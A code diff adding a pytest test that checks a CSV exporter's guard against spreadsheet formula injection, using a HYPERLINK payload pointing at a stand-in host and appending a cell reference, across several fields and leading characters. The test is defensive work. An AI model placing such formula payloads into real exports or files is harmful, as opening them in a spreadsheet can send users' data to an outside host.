@@ -123,3 +123,27 @@ def test_export_unknown_format_is_coded(tmp_path):
     with pytest.raises(SpinmapError) as err:
         export(small_corpus(), "xlsx", tmp_path / "x.xlsx")
     assert err.value.code == "SM402" and all(f in err.value.message for f in EXPORTERS)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+@pytest.mark.parametrize("field", ["title", "outlet", "actor", "text"])
+def test_export_csv_guards_formula_cells_unless_told_not_to(tmp_path, start, field):
+    bad = f'{start}HYPERLINK("http://x.example/?"&A1,"go")'
+    text = f"{bad} Moscow blamed Kyiv for the shelling."
+    evidence = text if field == "text" else "Moscow blamed Kyiv for the shelling."
+    accuser = bad if field == "actor" else "Moscow"
+    a = make_analysis(text, outlet=bad if field == "outlet" else "Outlet A", title=bad if field == "title" else "T",
+                      actors=((accuser, "organization"), ("Kyiv", "country")),
+                      blames=((accuser, "Kyiv", "the shelling", "reported", evidence),))
+    rows = {}
+    for guard in (True, False):
+        export([a], "csv", tmp_path / "x.csv", formula_guard=guard)
+        with open(tmp_path / "x.csv", encoding="utf-8", newline="") as f:
+            (rows[guard],) = list(csv.DictReader(f))
+    exact, guarded = rows[False], rows[True]
+    assert exact[field].startswith(bad)  # unguarded: the value as stored, for pandas
+    assert exact["text"] == text[int(exact["start"]):int(exact["end"])]
+    for col in COLUMNS:
+        danger = exact[col].startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert guarded[col] == ("'" + exact[col] if danger else exact[col])
+    assert guarded[field].startswith("'")
